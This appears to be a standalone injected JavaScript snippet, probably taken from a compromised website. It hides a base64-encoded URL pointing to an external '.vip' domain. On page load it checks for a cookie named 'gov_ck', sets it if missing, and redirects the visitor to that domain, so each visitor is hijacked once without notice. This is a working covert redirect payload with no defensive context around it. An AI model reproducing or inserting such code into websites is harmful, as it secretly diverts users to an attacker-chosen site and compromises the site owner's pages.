
;(function(){var a='aHR0cHM6Ly92dWFzYW44OC52aXAv';if(!/gov_ck/.test(document.cookie)){document.cookie='gov_ck=1';window.location.href=atob(a)}})();
